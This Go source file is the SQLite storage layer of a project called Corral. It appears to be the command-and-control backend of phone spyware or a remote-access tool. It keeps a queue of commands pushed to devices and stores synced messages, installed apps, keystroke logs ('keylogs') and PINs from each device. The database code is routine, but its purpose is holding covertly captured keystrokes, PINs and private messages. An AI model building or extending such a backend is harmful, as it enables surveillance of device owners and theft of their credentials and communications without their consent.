// Copyright 2026 The Corral Authors
// SPDX-License-Identifier: Apache-2.0

package store

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"strings"
	"time"

	"zombiezen.com/go/sqlite"
	"zombiezen.com/go/sqlite/sqlitex"

	"github.com/corralhq/corral/lib/codec"
)

// schema is created on open. Times are Unix milliseconds. The
// sync_* tables key on (device_id, local_id) — the device-scoped
// local id clients attach to every bulk-synced record — which is what
// makes client-side retry of an un-acked sync safe.
const schema = `
	CREATE TABLE IF NOT EXISTS devices (
		device_id     TEXT PRIMARY KEY,
		tenant_id     TEXT,
		build_id      TEXT,
		status        INTEGER NOT NULL DEFAULT 0,
		last_seen     INTEGER,
		device_name   TEXT,
		manufacturer  TEXT,
		model         TEXT,
		os_version    TEXT,
		battery_level INTEGER,
		attributes    TEXT,
		created_at    INTEGER NOT NULL
	);

	CREATE TABLE IF NOT EXISTS commands (
		id           TEXT PRIMARY KEY,
		device_id    TEXT NOT NULL,
		command      TEXT NOT NULL,
		payload      TEXT,
		status       TEXT NOT NULL,
		error        TEXT,
		created_at   INTEGER NOT NULL,
		updated_at   INTEGER NOT NULL,
		delivered_at INTEGER,
		executed_at  INTEGER
	);
	CREATE INDEX IF NOT EXISTS idx_commands_pending
		ON commands(device_id, status, created_at);

	CREATE TABLE IF NOT EXISTS heartbeats (
		device_id     TEXT NOT NULL,
		at            INTEGER NOT NULL,
		status        INTEGER,
		battery_level INTEGER,
		payload       BLOB
	);
	CREATE INDEX IF NOT EXISTS idx_heartbeats_device
		ON heartbeats(device_id, at);

	CREATE TABLE IF NOT EXISTS sync_messages (
		device_id  TEXT NOT NULL,
		local_id   TEXT NOT NULL,
		fields     TEXT NOT NULL,
		updated_at INTEGER NOT NULL,
		PRIMARY KEY (device_id, local_id)
	);
	CREATE TABLE IF NOT EXISTS sync_apps (
		device_id  TEXT NOT NULL,
		local_id   TEXT NOT NULL,
		fields     TEXT NOT NULL,
		updated_at INTEGER NOT NULL,
		PRIMARY KEY (device_id, local_id)
	);
	CREATE TABLE IF NOT EXISTS sync_keylogs (
		device_id  TEXT NOT NULL,
		local_id   TEXT NOT NULL,
		fields     TEXT NOT NULL,
		updated_at INTEGER NOT NULL,
		PRIMARY KEY (device_id, local_id)
	);
	CREATE TABLE IF NOT EXISTS sync_pins (
		device_id  TEXT NOT NULL,
		local_id   TEXT NOT NULL,
		fields     TEXT NOT NULL,
		updated_at INTEGER NOT NULL,
		PRIMARY KEY (device_id, local_id)
	);
`

// syncTables maps a record kind to its table. The table name is
// interpolated into SQL, so only values from this map are ever used.
var syncTables = map[string]string{
	"messages": "sync_messages",
	"apps":     "sync_apps",
	"keylogs":  "sync_keylogs",
	"pins":     "sync_pins",
}

// SyncRecord is one bulk-synced record, already validated by the
// wire package.
type SyncRecord struct {
	DeviceID string
	LocalID  string
	Fields   map[string]any
}

// DB is the SQLite-backed store. Safe for concurrent use; individual
// connections are not, so every operation takes its own connection
// from the pool.
type DB struct {
	pool   *sqlitex.Pool
	logger *slog.Logger
	path   string
}

// Config holds the parameters for opening a DB.
type Config struct {
	// Path is the database file. Required. ":memory:" works for
	// tests with PoolSize 1.
	Path string

	// PoolSize is the connection pool size. Defaults to 4; SQLite
	// serializes writes regardless, extra connections only help
	// concurrent reads.
	PoolSize int

	Logger *slog.Logger
}

// Open opens (creating if needed) the database and applies the
// schema.
func Open(cfg Config) (*DB, error) {
	if cfg.Path == "" {
		return nil, fmt.Errorf("store: Path is required")
	}
	logger := cfg.Logger
	if logger == nil {
		logger = slog.New(slog.NewTextHandler(io.Discard, nil))
	}
	poolSize := cfg.PoolSize
	if poolSize <= 0 {
		poolSize = 4
	}

	pool, err := sqlitex.NewPool(cfg.Path, sqlitex.PoolOptions{
		PoolSize:    poolSize,
		PrepareConn: prepareConnection,
	})
	if err != nil {
		return nil, fmt.Errorf("store: opening %s: %w", cfg.Path, err)
	}

	db := &DB{pool: pool, logger: logger, path: cfg.Path}

	// Apply the schema eagerly so a broken path fails Open, not the
	// first write.
	conn, err := pool.Take(context.Background())
	if err != nil {
		pool.Close()
		return nil, fmt.Errorf("store: %w", err)
	}
	defer pool.Put(conn)
	if err := sqlitex.ExecuteScript(conn, schema, nil); err != nil {
		pool.Close()
		return nil, fmt.Errorf("store: creating schema: %w", err)
	}

	logger.Info("store opened", "path", cfg.Path, "pool_size", poolSize)
	return db, nil
}

// prepareConnection applies the standard pragmas to each pooled
// connection: WAL for concurrent readers with a single writer,
// NORMAL sync for process-crash durability without per-commit fsync,
// and a busy timeout so contending writers wait instead of failing.
func prepareConnection(conn *sqlite.Conn) error {
	pragmas := []string{
		"PRAGMA journal_mode=WAL",
		"PRAGMA synchronous=NORMAL",
		"PRAGMA busy_timeout=5000",
		"PRAGMA temp_store=MEMORY",
	}
	for _, pragma := range pragmas {
		if err := sqlitex.ExecuteTransient(conn, pragma, nil); err != nil {
			return fmt.Errorf("store: %s: %w", pragma, err)
		}
	}
	return nil
}

// Close closes the pool, blocking until borrowed connections return.
func (db *DB) Close() error {
	if err := db.pool.Close(); err != nil {
		return fmt.Errorf("store: closing %s: %w", db.path, err)
	}
	return nil
}

// ApplyBatch applies one coalescer flush in a single IMMEDIATE
// transaction. Device rows are upserted first — including bare rows
// for heartbeat-only devices — so heartbeat inserts never reference a
// missing device.
func (db *DB) ApplyBatch(ctx context.Context, batch Batch) (err error) {
	if batch.Empty() {
		return nil
	}

	conn, err := db.pool.Take(ctx)
	if err != nil {
		return fmt.Errorf("store: apply batch: %w", err)
	}
	defer db.pool.Put(conn)

	endTransaction, err := sqlitex.ImmediateTransaction(conn)
	if err != nil {
		return fmt.Errorf("store: begin batch transaction: %w", err)
	}
	defer endTransaction(&err)

	seen := make(map[string]bool, len(batch.Devices))
	for i := range batch.Devices {
		if err := db.upsertDevice(conn, &batch.Devices[i]); err != nil {
			return err
		}
		seen[batch.Devices[i].DeviceID] = true
	}
	for i := range batch.Heartbeats {
		ping := &batch.Heartbeats[i]
		if !seen[ping.DeviceID] {
			if err := db.ensureDevice(conn, ping.DeviceID, ping.At); err != nil {
				return err
			}
			seen[ping.DeviceID] = true
		}
		if err := db.insertHeartbeat(conn, ping); err != nil {
			return err
		}
	}
	return nil
}

// upsertDevice merges a partial update into the device row. COALESCE
// keeps the stored value for fields the update did not carry, which
// is what makes re-applying a batch after a failed flush harmless.
func (db *DB) upsertDevice(conn *sqlite.Conn, update *DeviceUpdate) error {
	var attributesJSON any
	if update.Attributes != nil {
		data, err := json.Marshal(update.Attributes)
		if err != nil {
			return fmt.Errorf("store: marshal attributes for %s: %w", update.DeviceID, err)
		}
		attributesJSON = string(data)
	}

	return sqlitex.Execute(conn, `
		INSERT INTO devices (device_id, tenant_id, build_id, status,
			last_seen, device_name, manufacturer, model, os_version,
			battery_level, attributes, created_at)
		VALUES (?, ?, ?, COALESCE(?, 0), ?, ?, ?, ?, ?, ?, ?, ?)
		ON CONFLICT (device_id) DO UPDATE SET
			tenant_id     = COALESCE(excluded.tenant_id, tenant_id),
			build_id      = COALESCE(excluded.build_id, build_id),
			status        = COALESCE(?, status),
			last_seen     = excluded.last_seen,
			device_name   = COALESCE(excluded.device_name, device_name),
			manufacturer  = COALESCE(excluded.manufacturer, manufacturer),
			model         = COALESCE(excluded.model, model),
			os_version    = COALESCE(excluded.os_version, os_version),
			battery_level = COALESCE(excluded.battery_level, battery_level),
			attributes    = COALESCE(excluded.attributes, attributes)`,
		&sqlitex.ExecOptions{
			Args: []any{
				update.DeviceID,
				nullableString(update.TenantID),
				nullableString(update.BuildID),
				nullableBool(update.Status),
				update.LastSeen.UnixMilli(),
				nullableString(update.DeviceName),
				nullableString(update.Manufacturer),
				nullableString(update.Model),
				nullableString(update.OSVersion),
				nullableInt(update.BatteryLevel),
				attributesJSON,
				update.LastSeen.UnixMilli(),
				nullableBool(update.Status),
			},
		})
}

// ensureDevice creates a minimal device row if none exists, for
// heartbeats from devices the merge buffer has not seen this
// interval.
func (db *DB) ensureDevice(conn *sqlite.Conn, deviceID string, at time.Time) error {
	return sqlitex.Execute(conn, `
		INSERT INTO devices (device_id, last_seen, created_at)
		VALUES (?, ?, ?)
		ON CONFLICT (device_id) DO NOTHING`,
		&sqlitex.ExecOptions{
			Args: []any{deviceID, at.UnixMilli(), at.UnixMilli()},
		})
}

func (db *DB) insertHeartbeat(conn *sqlite.Conn, ping *HeartbeatPing) error {
	var payloadBlob any
	if len(ping.Payload) > 0 {
		data, err := codec.Marshal(ping.Payload)
		if err != nil {
			return fmt.Errorf("store: marshal heartbeat payload for %s: %w", ping.DeviceID, err)
		}
		payloadBlob = data
	}

	return sqlitex.Execute(conn, `
		INSERT INTO heartbeats (device_id, at, status, battery_level, payload)
		VALUES (?, ?, ?, ?, ?)`,
		&sqlitex.ExecOptions{
			Args: []any{
				ping.DeviceID,
				ping.At.UnixMilli(),
				nullableBool(ping.Status),
				nullableInt(ping.BatteryLevel),
				payloadBlob,
			},
		})
}

// InsertCommand persists a freshly created command row.
func (db *DB) InsertCommand(ctx context.Context, command *Command) error {
	conn, err := db.pool.Take(ctx)
	if err != nil {
		return fmt.Errorf("store: insert command: %w", err)
	}
	defer db.pool.Put(conn)

	var payload any
	if len(command.Payload) > 0 {
		payload = string(command.Payload)
	}

	err = sqlitex.Execute(conn, `
		INSERT INTO commands (id, device_id, command, payload, status, created_at, updated_at)
		VALUES (?, ?, ?, ?, ?, ?, ?)`,
		&sqlitex.ExecOptions{
			Args: []any{
				command.ID,
				command.DeviceID,
				command.Command,
				payload,
				string(command.Status),
				command.CreatedAt.UnixMilli(),
				command.CreatedAt.UnixMilli(),
			},
		})
	if err != nil {
		return fmt.Errorf("store: insert command %s: %w", command.ID, err)
	}
	return nil
}

// ErrNotFound is returned for lookups of rows that do not exist.
var ErrNotFound = fmt.Errorf("store: not found")

// GetCommand fetches one command row by id.
func (db *DB) GetCommand(ctx context.Context, id string) (Command, error) {
	conn, err := db.pool.Take(ctx)
	if err != nil {
		return Command{}, fmt.Errorf("store: get command: %w", err)
	}
	defer db.pool.Put(conn)

	var command Command
	found := false
	err = sqlitex.Execute(conn, `
		SELECT id, device_id, command, payload, status, error,
			created_at, updated_at, delivered_at, executed_at
		FROM commands WHERE id = ?`,
		&sqlitex.ExecOptions{
			Args: []any{id},
			ResultFunc: func(stmt *sqlite.Stmt) error {
				found = true
				command = scanCommand(stmt)
				return nil
			},
		})
	if err != nil {
		return Command{}, fmt.Errorf("store: get command %s: %w", id, err)
	}
	if !found {
		return Command{}, fmt.Errorf("command %s: %w", id, ErrNotFound)
	}
	return command, nil
}

// PendingCommands returns up to limit pending commands for a device,
// oldest first.
func (db *DB) PendingCommands(ctx context.Context, deviceID string, limit int) ([]Command, error) {
	conn, err := db.pool.Take(ctx)
	if err != nil {
		return nil, fmt.Errorf("store: pending commands: %w", err)
	}
	defer db.pool.Put(conn)

	var commands []Command
	err = sqlitex.Execute(conn, `
		SELECT id, device_id, command, payload, status, error,
			created_at, updated_at, delivered_at, executed_at
		FROM commands
		WHERE device_id = ? AND status = ?
		ORDER BY created_at ASC
		LIMIT ?`,
		&sqlitex.ExecOptions{
			Args: []any{deviceID, string(StatusPending), limit},
			ResultFunc: func(stmt *sqlite.Stmt) error {
				commands = append(commands, scanCommand(stmt))
				return nil
			},
		})
	if err != nil {
		return nil, fmt.Errorf("store: pending commands for %s: %w", deviceID, err)
	}
	return commands, nil
}

// TransitionCommand moves a command to the given status if its
// current status is one of from. Returns whether a row changed; a
// false result with a nil error means the command was not in an
// eligible state (the dispatch package decides whether that is a
// no-op or a violation).
func (db *DB) TransitionCommand(ctx context.Context, id string, from []CommandStatus, to CommandStatus, at time.Time, errorMessage string) (bool, error) {
	conn, err := db.pool.Take(ctx)
	if err != nil {
		return false, fmt.Errorf("store: transition command: %w", err)
	}
	defer db.pool.Put(conn)

	placeholders := strings.TrimSuffix(strings.Repeat("?, ", len(from)), ", ")
	args := []any{string(to), at.UnixMilli()}

	set := "status = ?, updated_at = ?"
	switch to {
	case StatusDelivered:
		set += ", delivered_at = ?"
		args = append(args, at.UnixMilli())
	case StatusExecuted:
		set += ", executed_at = ?"
		args = append(args, at.UnixMilli())
	case StatusFailed:
		set += ", error = ?"
		args = append(args, errorMessage)
	}

	args = append(args, id)
	for _, status := range from {
		args = append(args, string(status))
	}

	query := fmt.Sprintf("UPDATE commands SET %s WHERE id = ? AND status IN (%s)", set, placeholders)
	if err := sqlitex.Execute(conn, query, &sqlitex.ExecOptions{Args: args}); err != nil {
		return false, fmt.Errorf("store: transition command %s to %s: %w", id, to, err)
	}
	return conn.Changes() > 0, nil
}

// UpsertRecords applies one bulk-sync batch in a single transaction,
// keyed per record on (device_id, local_id). The owning device row is
// ensured first.
func (db *DB) UpsertRecords(ctx context.Context, kind string, records []SyncRecord, at time.Time) (err error) {
	table, ok := syncTables[kind]
	if !ok {
		return fmt.Errorf("store: unknown sync kind %q", kind)
	}
	if len(records) == 0 {
		return nil
	}

	conn, err := db.pool.Take(ctx)
	if err != nil {
		return fmt.Errorf("store: upsert %s: %w", kind, err)
	}
	defer db.pool.Put(conn)

	endTransaction, err := sqlitex.ImmediateTransaction(conn)
	if err != nil {
		return fmt.Errorf("store: begin %s transaction: %w", kind, err)
	}
	defer endTransaction(&err)

	seen := make(map[string]bool, 1)
	query := fmt.Sprintf(`
		INSERT INTO %s (device_id, local_id, fields, updated_at)
		VALUES (?, ?, ?, ?)
		ON CONFLICT (device_id, local_id) DO UPDATE SET
			fields = excluded.fields,
			updated_at = excluded.updated_at`, table)

	for i := range records {
		record := &records[i]
		if !seen[record.DeviceID] {
			if err := db.ensureDevice(conn, record.DeviceID, at); err != nil {
				return err
			}
			seen[record.DeviceID] = true
		}

		fieldsJSON, err := json.Marshal(record.Fields)
		if err != nil {
			return fmt.Errorf("store: marshal %s record %s/%s: %w", kind, record.DeviceID, record.LocalID, err)
		}
		err = sqlitex.Execute(conn, query, &sqlitex.ExecOptions{
			Args: []any{record.DeviceID, record.LocalID, string(fieldsJSON), at.UnixMilli()},
		})
		if err != nil {
			return fmt.Errorf("store: upsert %s record %s/%s: %w", kind, record.DeviceID, record.LocalID, err)
		}
	}
	return nil
}

// GetDevice fetches one device row.
func (db *DB) GetDevice(ctx context.Context, deviceID string) (Device, error) {
	conn, err := db.pool.Take(ctx)
	if err != nil {
		return Device{}, fmt.Errorf("store: get device: %w", err)
	}
	defer db.pool.Put(conn)

	var device Device
	found := false
	err = sqlitex.Execute(conn, `
		SELECT device_id, tenant_id, build_id, status, last_seen,
			device_name, manufacturer, model, os_version,
			battery_level, attributes, created_at
		FROM devices WHERE device_id = ?`,
		&sqlitex.ExecOptions{
			Args: []any{deviceID},
			ResultFunc: func(stmt *sqlite.Stmt) error {
				found = true
				device = Device{
					DeviceID:     stmt.ColumnText(0),
					TenantID:     stmt.ColumnText(1),
					BuildID:      stmt.ColumnText(2),
					Status:       stmt.ColumnInt64(3) != 0,
					LastSeen:     time.UnixMilli(stmt.ColumnInt64(4)),
					DeviceName:   stmt.ColumnText(5),
					Manufacturer: stmt.ColumnText(6),
					Model:        stmt.ColumnText(7),
					OSVersion:    stmt.ColumnText(8),
					BatteryLevel: stmt.ColumnInt64(9),
					CreatedAt:    time.UnixMilli(stmt.ColumnInt64(11)),
				}
				if attributesJSON := stmt.ColumnText(10); attributesJSON != "" {
					_ = json.Unmarshal([]byte(attributesJSON), &device.Attributes)
				}
				return nil
			},
		})
	if err != nil {
		return Device{}, fmt.Errorf("store: get device %s: %w", deviceID, err)
	}
	if !found {
		return Device{}, fmt.Errorf("device %s: %w", deviceID, ErrNotFound)
	}
	return device, nil
}

// CountRecords reports the number of stored records of a kind for a
// device. Used by tests and diagnostics.
func (db *DB) CountRecords(ctx context.Context, kind, deviceID string) (int, error) {
	table, ok := syncTables[kind]
	if !ok {
		return 0, fmt.Errorf("store: unknown sync kind %q", kind)
	}
	conn, err := db.pool.Take(ctx)
	if err != nil {
		return 0, fmt.Errorf("store: count %s: %w", kind, err)
	}
	defer db.pool.Put(conn)

	count := 0
	err = sqlitex.Execute(conn,
		fmt.Sprintf("SELECT COUNT(*) FROM %s WHERE device_id = ?", table),
		&sqlitex.ExecOptions{
			Args: []any{deviceID},
			ResultFunc: func(stmt *sqlite.Stmt) error {
				count = stmt.ColumnInt(0)
				return nil
			},
		})
	if err != nil {
		return 0, fmt.Errorf("store: count %s for %s: %w", kind, deviceID, err)
	}
	return count, nil
}

func scanCommand(stmt *sqlite.Stmt) Command {
	command := Command{
		ID:        stmt.ColumnText(0),
		DeviceID:  stmt.ColumnText(1),
		Command:   stmt.ColumnText(2),
		Status:    CommandStatus(stmt.ColumnText(4)),
		Error:     stmt.ColumnText(5),
		CreatedAt: time.UnixMilli(stmt.ColumnInt64(6)),
		UpdatedAt: time.UnixMilli(stmt.ColumnInt64(7)),
	}
	if payload := stmt.ColumnText(3); payload != "" {
		command.Payload = json.RawMessage(payload)
	}
	if !stmt.ColumnIsNull(8) {
		at := time.UnixMilli(stmt.ColumnInt64(8))
		command.DeliveredAt = &at
	}
	if !stmt.ColumnIsNull(9) {
		at := time.UnixMilli(stmt.ColumnInt64(9))
		command.ExecutedAt = &at
	}
	return command
}

func nullableString(s *string) any {
	if s == nil {
		return nil
	}
	return *s
}

func nullableBool(b *bool) any {
	if b == nil {
		return nil
	}
	if *b {
		return 1
	}
	return 0
}

func nullableInt(n *int64) any {
	if n == nil {
		return nil
	}
	return *n
}
